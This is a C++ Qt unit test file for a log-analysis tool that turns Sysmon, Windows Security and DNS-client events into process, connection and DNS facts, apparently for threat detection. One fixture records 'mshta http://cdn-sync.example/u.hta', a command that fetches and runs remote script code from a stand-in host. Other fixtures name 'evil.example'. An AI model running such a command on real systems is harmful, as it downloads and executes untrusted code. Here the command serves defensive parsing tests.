#include "model/store/facts.h"

#include <QtTest>

using namespace lolscope;

namespace {

using Fields = std::vector<Field>;

Event made(std::string_view provider, std::uint32_t id, const Fields &fields)
{
    Event result;
    result.provider = provider;
    result.eventId = id;
    result.data = fields;
    return result;
}

/// Without a fact of this kind the test ends with an exception.
template<typename Kind>
Kind factAs(std::string_view provider, std::uint32_t id, const Fields &fields)
{
    return std::get<Kind>(factOf(made(provider, id, fields)));
}

template<typename Kind>
Kind sysmon(std::uint32_t id, const Fields &fields)
{
    return factAs<Kind>(kSysmonProvider, id, fields);
}
template<typename Kind>
Kind security(std::uint32_t id, const Fields &fields)
{
    return factAs<Kind>(kSecurityProvider, id, fields);
}

std::vector<std::string> answersOf(const char *results)
{
    return sysmon<DnsFact>(22, {{"QueryResults", results}}).answers;
}

QByteArray joined(const std::vector<Field> &fields)
{
    std::string text;
    for (const Field &field : fields)
        text += std::string(field.name) + '=' + std::string(field.value) + '|';
    return QByteArray::fromStdString(text);
}

} // namespace

class TestFacts : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void readsASysmonStart()
    {
        const auto fact =
            sysmon<ProcessStartFact>(1,
                                     {{"ProcessGuid", "{5d0a42c1-3cef-6ac3-0a00-00100020f800}"},
                                      {"ProcessId", "8440"},
                                      {"Image", "C:\\Windows\\System32\\mshta.exe"},
                                      {"CommandLine", "mshta http://cdn-sync.example/u.hta"},
                                      {"OriginalFileName", "MSHTA.EXE"},
                                      {"User", "CORP\\anna"},
                                      {"IntegrityLevel", "High"},
                                      {"Hashes", "MD5=00"},
                                      {"ParentProcessGuid", "{5D0A42C1-3CEE-6AC3-0A00-001000D81700}"},
                                      {"ParentProcessId", "6104"},
                                      {"ParentImage", "C:\\Windows\\System32\\cmd.exe"},
                                      {"ParentCommandLine", "cmd /c start"}});
        QVERIFY(!fact.fromSecurity);
        QCOMPARE(fact.guid, std::string("{5D0A42C1-3CEF-6AC3-0A00-00100020F800}"));
        QCOMPARE(fact.pid.value_or(0), 8440u);
        QCOMPARE(fact.image, std::string("C:\\Windows\\System32\\mshta.exe"));
        QCOMPARE(fact.commandLine, std::string("mshta http://cdn-sync.example/u.hta"));
        QCOMPARE(fact.originalFileName, std::string("MSHTA.EXE"));
        QCOMPARE(fact.user, std::string("CORP\\anna"));
        QCOMPARE(fact.integrityLevel, std::string("High"));
        QCOMPARE(fact.hashes, std::string("MD5=00"));
        QCOMPARE(fact.parentGuid, std::string("{5D0A42C1-3CEE-6AC3-0A00-001000D81700}"));
        QCOMPARE(fact.parentPid.value_or(0), 6104u);
        QCOMPARE(fact.parentImage, std::string("C:\\Windows\\System32\\cmd.exe"));
        QCOMPARE(fact.parentCommandLine, std::string("cmd /c start"));
    }

    void nothingReadsAsEmpty_data()
    {
        QTest::addColumn<QByteArray>("guid");
        QTest::addColumn<QByteArray>("text");
        QTest::newRow("dashes") << QByteArray("-") << QByteArray("-");
        QTest::newRow("empty") << QByteArray("") << QByteArray("");
        QTest::newRow("zero GUID") << QByteArray("{00000000-0000-0000-0000-000000000000}") << QByteArray("-");
        QTest::newRow("zero GUID without braces")
            << QByteArray("00000000-0000-0000-0000-000000000000") << QByteArray("");
    }
    void nothingReadsAsEmpty()
    {
        QFETCH(QByteArray, guid);
        QFETCH(QByteArray, text);
        const std::string guidText = guid.toStdString(), other = text.toStdString();
        const auto fact = sysmon<ProcessStartFact>(1,
                                                   {{"ProcessGuid", guidText},
                                                    {"ParentProcessGuid", guidText},
                                                    {"ProcessId", other},
                                                    {"User", other}});
        QVERIFY(fact.guid.empty() && fact.parentGuid.empty() && fact.user.empty() && !fact.pid);
        const auto bare = sysmon<ProcessStartFact>(1, {}); // and so does what is not there
        QVERIFY(bare.guid.empty() && bare.image.empty() && !bare.pid && !bare.parentPid);
    }

    void readsProcessIds_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<qint64>("expected"); // -1: none
        QTest::newRow("decimal") << QByteArray("8440") << qint64{8440};
        QTest::newRow("hexadecimal") << QByteArray("0x20f8") << qint64{8440};
        QTest::newRow("padded hexadecimal") << QByteArray("0x00000000000020F8") << qint64{8440};
        QTest::newRow("zero") << QByteArray("0") << qint64{0};
        QTest::newRow("largest") << QByteArray("4294967295") << qint64{4294967295};
        QTest::newRow("too large") << QByteArray("4294967296") << qint64{-1};
        QTest::newRow("too large in hexadecimal") << QByteArray("0x100000000") << qint64{-1};
        QTest::newRow("negative") << QByteArray("-1") << qint64{-1};
        QTest::newRow("0x alone") << QByteArray("0x") << qint64{-1};
        QTest::newRow("word") << QByteArray("8440x") << qint64{-1};
        QTest::newRow("blank") << QByteArray(" 8440") << qint64{-1};
    }
    void readsProcessIds()
    {
        QFETCH(QByteArray, text);
        QFETCH(qint64, expected);
        const std::string value = text.toStdString();
        const auto fact = sysmon<ProcessEndFact>(5, {{"ProcessId", value}});
        QCOMPARE(fact.pid ? qint64{*fact.pid} : -1, expected);
    }

    void readsASysmonConnection()
    {
        const auto fact = sysmon<ConnectionFact>(3,
                                                 {{"ProcessGuid", "{AB}"},
                                                  {"ProcessId", "8440"},
                                                  {"Image", "C:\\mshta.exe"},
                                                  {"User", "CORP\\anna"},
                                                  {"Protocol", "TCP"},
                                                  {"Initiated", "true"},
                                                  {"SourceIp", "10.1.7.42"},
                                                  {"SourcePort", "49811"},
                                                  {"DestinationIp", "0:0:0:0:0:ffff:cb00:7108"},
                                                  {"DestinationHostname", "-"},
                                                  {"DestinationPort", "443"}});
        QCOMPARE(fact.guid, std::string("{AB}"));
        QCOMPARE(fact.pid.value_or(0), 8440u);
        QCOMPARE(fact.protocol, std::string("tcp"));
        QVERIFY(fact.initiated == true);
        QCOMPARE(fact.sourceIp + ':' + fact.sourcePort, std::string("10.1.7.42:49811"));
        QCOMPARE(fact.destIp + ' ' + fact.destPort, std::string("0:0:0:0:0:ffff:cb00:7108 443")); // as logged
        QVERIFY(fact.destHostname.empty());
    }

    void readsIrregularDirections_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<int>("expected"); // -1: not known
        QTest::newRow("true") << QByteArray("true") << 1;
        QTest::newRow("True") << QByteArray("True") << 1;
        QTest::newRow("1") << QByteArray("1") << 1;
        QTest::newRow("false") << QByteArray("false") << 0;
        QTest::newRow("0") << QByteArray("0") << 0;
        QTest::newRow("other") << QByteArray("yes") << -1;
        QTest::newRow("empty") << QByteArray("") << -1;
    }
    void readsIrregularDirections()
    {
        QFETCH(QByteArray, text);
        QFETCH(int, expected);
        const std::string value = text.toStdString();
        const auto fact = sysmon<ConnectionFact>(3, {{"Initiated", value}});
        QCOMPARE(fact.initiated ? int{*fact.initiated} : -1, expected);
    }

    void readsAnswers_data()
    {
        QTest::addColumn<QByteArray>("results");
        QTest::addColumn<QString>("expected");
        const auto row = [](const char *name, const char *results, const char *expected) {
            QTest::newRow(name) << QByteArray(results) << QString::fromLatin1(expected);
        };
        row("none", "-", "");
        row("empty", "", "");
        row("separators alone", ";;", "");
        row("v4-mapped", "::ffff:203.0.113.8;", "::ffff:203.0.113.8");
        row("two", "::ffff:203.0.113.8;::ffff:203.0.113.9;", "::ffff:203.0.113.8|::ffff:203.0.113.9");
        row("plain", "203.0.113.8", "203.0.113.8");
        row("plain with its end", "203.0.113.8;", "203.0.113.8");
        row("v6", "2001:db8::8;", "2001:db8::8");
        row("alias", "type:  5 edge.example;::ffff:203.0.113.9;", "edge.example|::ffff:203.0.113.9");
        row("alias that begins with a digit", "type:  5 1e100.example;", "1e100.example");
        row("alias of digits", "type:  5 365.example;", "365.example");
        row("service record", "type: 33 dc01.corp.example;", "dc01.corp.example");
        row("alias without a name", "type:  5 ;203.0.113.8;", "203.0.113.8");
        row("type alone", "type:", "");
        row("blanks around", " 203.0.113.8 ; type:  5 a.example ;", "203.0.113.8|a.example");
    }
    void readsAnswers()
    {
        QFETCH(QByteArray, results);
        QFETCH(QString, expected);
        QStringList answers;
        for (const std::string &answer : answersOf(results.constData()))
            answers << QString::fromStdString(answer);
        QCOMPARE(answers.join(QLatin1Char('|')), expected);
    }

    void readsAQuery()
    {
        const auto fact = sysmon<DnsFact>(22,
                                          {{"ProcessGuid", "{AB}"},
                                           {"ProcessId", "7"},
                                           {"QueryName", "evil.example"},
                                           {"QueryStatus", "9003"},
                                           {"Image", "C:\\a.exe"},
                                           {"User", "u"}});
        QCOMPARE(fact.name, std::string("evil.example"));
        QCOMPARE(fact.status, std::string("9003"));
        QCOMPARE(fact.guid + fact.image + fact.user, std::string("{AB}C:\\a.exeu"));
        QCOMPARE(fact.pid.value_or(0), 7u);
        QVERIFY(fact.answers.empty());
    }

    void readsASecurityStart()
    {
        const Fields fields = {{"SubjectUserName", "HOST$"},
                               {"SubjectDomainName", "CORP"},
                               {"SubjectLogonId", "0x3e7"},
                               {"NewProcessId", "0x20f8"},
                               {"NewProcessName", "C:\\mshta.exe"},
                               {"CommandLine", "mshta x"},
                               {"TargetUserName", "anna"},
                               {"TargetDomainName", "CORP"},
                               {"ProcessId", "0x17d8"},
                               {"ParentProcessName", "C:\\cmd.exe"},
                               {"MandatoryLabel", "S-1-16-12288"}};
        const auto fact = security<ProcessStartFact>(4688, fields);
        QVERIFY(fact.fromSecurity && fact.guid.empty());
        QCOMPARE(fact.pid.value_or(0), 8440u);
        QCOMPARE(fact.parentPid.value_or(0), 6104u);
        QCOMPARE(fact.image + ' ' + fact.commandLine + ' ' + fact.parentImage,
                 std::string("C:\\mshta.exe mshta x C:\\cmd.exe"));
        QCOMPARE(fact.user, std::string("CORP\\anna"));
        QCOMPARE(fact.integrityLevel, std::string("High"));
        EventBatch batch;
        QCOMPARE(joined(sysmonStartFields(made(kSecurityProvider, 4688, fields), batch)),
                 QByteArray("Image=C:\\mshta.exe|CommandLine=mshta "
                            "x|User=CORP\\anna|IntegrityLevel=High|LogonId=0x3e7|ParentImage=C:\\cmd.exe|"
                            "ParentProcessId=6104|"));
        QVERIFY(sysmonStartFields(made(kSysmonProvider, 1, {{"Image", "x"}}), batch).empty());
    }

    void whoASecurityStartRunsAs_data()
    {
        QTest::addColumn<QByteArray>("target");
        QTest::addColumn<QByteArray>("targetDomain");
        QTest::addColumn<QByteArray>("expected");
        QTest::newRow("target") << QByteArray("bob") << QByteArray("CORP") << QByteArray("CORP\\bob");
        QTest::newRow("target without a domain") << QByteArray("bob") << QByteArray("-") << QByteArray("bob");
        QTest::newRow("no target") << QByteArray("-") << QByteArray("-") << QByteArray("DOM\\anna");
        QTest::newRow("domain alone") << QByteArray("-") << QByteArray("CORP") << QByteArray("DOM\\anna");
        QTest::newRow("old version") << QByteArray("") << QByteArray("") << QByteArray("DOM\\anna");
    }
    void whoASecurityStartRunsAs()
    {
        QFETCH(QByteArray, target);
        QFETCH(QByteArray, targetDomain);
        QFETCH(QByteArray, expected);
        const std::string name = target.toStdString(), domain = targetDomain.toStdString();
        const auto fact = security<ProcessStartFact>(4688,
                                                     {{"SubjectUserName", "anna"},
                                                      {"SubjectDomainName", "DOM"},
                                                      {"TargetUserName", name},
                                                      {"TargetDomainName", domain}});
        QCOMPARE(QByteArray::fromStdString(fact.user), expected);
    }

    void readsASecurityEndAndConnection()
    {
        const auto end =
            security<ProcessEndFact>(4689, {{"ProcessId", "0x20f8"}, {"ProcessName", "C:\\mshta.exe"}});
        QCOMPARE(end.pid.value_or(0), 8440u);
        QCOMPARE(end.image, std::string("C:\\mshta.exe"));
        const auto out = security<ConnectionFact>(5156,
                                                  {{"ProcessID", "8440"},
                                                   {"Application", "\\device\\harddiskvolume2\\mshta.exe"},
                                                   {"Direction", "%%14593"},
                                                   {"SourceAddress", "10.1.7.42"},
                                                   {"SourcePort", "49811"},
                                                   {"DestAddress", "203.0.113.8"},
                                                   {"DestPort", "443"},
                                                   {"Protocol", "6"}});
        QVERIFY(out.fromSecurity && out.initiated == true);
        QCOMPARE(out.pid.value_or(0), 8440u);
        QCOMPARE(out.image, std::string("\\device\\harddiskvolume2\\mshta.exe"));
        QCOMPARE(out.protocol + ' ' + out.sourceIp + ' ' + out.sourcePort + ' ' + out.destIp + ' '
                     + out.destPort,
                 std::string("tcp 10.1.7.42 49811 203.0.113.8 443"));
        QVERIFY(security<ConnectionFact>(5156, {{"Direction", "%%14592"}}).initiated == false);
        QVERIFY(!security<ConnectionFact>(5156, {{"Direction", "in"}}).initiated);
        QCOMPARE(security<ConnectionFact>(5156, {{"Protocol", "17"}}).protocol, std::string("udp"));
        QCOMPARE(security<ConnectionFact>(5156, {{"Protocol", "47"}}).protocol, std::string("47"));
    }

    void sysmonForLinuxSaysTheSame()
    {
        const auto start = factAs<ProcessStartFact>(
            kLinuxSysmonProvider, 1,
            {{"ProcessGuid", "{5d0a42c1-3cef-6ac3-0a00-00100020f800}"}, {"Image", "/usr/bin/curl"}});
        QVERIFY(!start.fromSecurity);
        QCOMPARE(start.guid + ' ' + start.image,
                 std::string("{5D0A42C1-3CEF-6AC3-0A00-00100020F800} /usr/bin/curl"));
        QCOMPARE(factAs<ConnectionFact>(kLinuxSysmonProvider, 3, {{"DestinationIp", "203.0.113.8"}}).destIp,
                 std::string("203.0.113.8"));
        QCOMPARE(factAs<ProcessEndFact>(kLinuxSysmonProvider, 5, {{"ProcessId", "7"}}).pid.value_or(0), 7u);
        QVERIFY(hasFact(made(kLinuxSysmonProvider, 3, {})));
    }

    void readsAQueryOfTheDnsClient()
    {
        const std::vector<Field> system = {{"Execution_ProcessID", "8440"}};
        const Fields data = {{"QueryName", "cdn-sync.example."},
                             {"QueryType", "1"},
                             {"QueryStatus", "0"},
                             {"QueryResults", "type:  5 edge.example;203.0.113.8;"}};
        Event event = made(kDnsClientProvider, 3008, data);
        event.system = system;
        const auto fact = std::get<DnsFact>(factOf(event));
        QCOMPARE(fact.pid.value_or(0), 8440u);
        QCOMPARE(fact.name + ' ' + fact.status, std::string("cdn-sync.example 0"));
        QCOMPARE(fact.answers, (std::vector<std::string>{"edge.example", "203.0.113.8"}));
        QVERIFY(fact.guid.empty() && fact.image.empty());
        QVERIFY(hasFact(event) && joinGains(event).processStart && !joinGains(event).askedName);
        event.eventId = 3006; // it begins
        QVERIFY(!hasFact(event) && std::holds_alternative<std::monostate>(factOf(event)));
    }

    void otherEventsAreNoFacts()
    {
        for (const std::uint32_t id : {0u, 2u, 10u, 4624u, 65537u})
            QVERIFY(std::holds_alternative<std::monostate>(factOf(made(kSysmonProvider, id, {}))));
        QVERIFY(std::holds_alternative<std::monostate>(factOf(made(kSecurityProvider, 1, {}))));
        QVERIFY(std::holds_alternative<std::monostate>(factOf(made("microsoft-windows-sysmon-fake", 1, {}))));
        QVERIFY(std::holds_alternative<std::monostate>(factOf(made("", 1, {}))));
    }

    void addressesHaveOneForm()
    {
        QCOMPARE(addressText("::ffff:203.0.113.8"), std::string("203.0.113.8"));
        QCOMPARE(addressText("0:0:0:0:0:FFFF:CB00:7108"), std::string("203.0.113.8"));
        QCOMPARE(addressText("2001:db8:0:0:0:0:0:8"), std::string("2001:db8::8"));
        QCOMPARE(addressText("evil.example"), std::string());
        QCOMPARE(addressText(""), std::string());
    }
};

QTEST_APPLESS_MAIN(TestFacts)
#include "tst_facts.moc"
